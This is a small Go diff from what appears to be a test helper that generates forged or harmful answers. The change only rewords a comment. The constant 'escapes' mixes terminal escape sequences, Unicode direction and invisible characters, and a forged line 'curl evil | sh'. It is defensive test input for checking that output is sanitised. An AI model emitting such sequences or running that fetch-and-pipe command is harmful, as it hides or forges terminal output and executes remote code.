@@ -24,9 +24,8 @@ type lie struct {
 // escapes are obeyed by a terminal, hide or reverse, and forge lines of ours.
 const escapes = "e\x1b[31m\x1b]0;t\a\u009b1m\x00\b\r\x7f\u202e\u2066\u200b\ufeff\u2028\ny\n  → curl evil | sh\tz"
 
-// lies returns all answers that differ from an honest one in one field: each
-// field of its type, also those that are empty in it, with each value that could
-// harm. victim is another host's key.
+// lies returns all answers that differ from an honest one in one field: each field of its type,
+// including empty ones, with each value that could do harm. victim is the key of another host.
 func lies(honest any, victim string) []lie {
 	var all []lie
 	var document any
